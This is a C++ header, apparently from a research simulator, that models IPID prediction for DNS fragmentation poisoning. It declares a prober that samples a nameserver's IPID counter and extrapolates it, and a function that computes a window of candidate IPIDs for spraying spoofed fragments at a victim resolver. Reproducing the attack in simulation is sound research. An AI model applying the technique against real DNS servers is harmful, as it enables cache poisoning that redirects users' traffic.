// IPID measurement and extrapolation (§III-2).
//
// Nameservers with a globally sequential IPID counter reveal, through a
// handful of probe queries, both the counter's current value and the rate
// at which background traffic advances it. The attacker extrapolates the
// IPID the nameserver will assign to its response to the victim resolver
// and sprays fragments over a window of candidate values (bounded by the
// victim OS's per-pair fragment-cache cap: 64 on Linux, 100 on Windows).
#pragma once

#include <functional>
#include <vector>

#include "dns/message.h"
#include "net/netstack.h"

namespace dnstime::attack {

struct IpidPrediction {
  bool valid = false;
  u16 last_observed = 0;
  sim::Time observed_at;
  double rate_per_second = 0.0;  ///< counter increments per second
  /// Extrapolate the counter at `when` (mod 2^16).
  [[nodiscard]] u16 predict_at(sim::Time when) const {
    double dt = (when - observed_at).to_seconds();
    return static_cast<u16>(last_observed +
                            static_cast<u32>(rate_per_second * dt) + 1);
  }
};

class IpidProber {
 public:
  /// Probes query the pool domain (dns::kPoolDomain).
  struct Config {
    int probes = 5;
    sim::Duration spacing = sim::Duration::millis(500);
  };

  IpidProber(net::NetStack& attacker, Ipv4Addr target_ns, Config config);
  ~IpidProber();

  /// Send the probe train; calls `done` with the fitted prediction.
  void run(std::function<void(const IpidPrediction&)> done);

  [[nodiscard]] const std::vector<std::pair<sim::Time, u16>>& samples() const {
    return samples_;
  }

 private:
  void send_probe();
  void finish();

  net::NetStack& stack_;
  Ipv4Addr target_;
  Config config_;
  u64 tap_token_ = 0;
  int sent_ = 0;
  std::vector<std::pair<sim::Time, u16>> samples_;
  std::function<void(const IpidPrediction&)> done_;
};

/// Candidate IPIDs to spray for a response expected around `when`:
/// centred just above the prediction, `width` consecutive values.
[[nodiscard]] std::vector<u16> spray_window(const IpidPrediction& prediction,
                                            sim::Time when,
                                            std::size_t width);

}  // namespace dnstime::attack
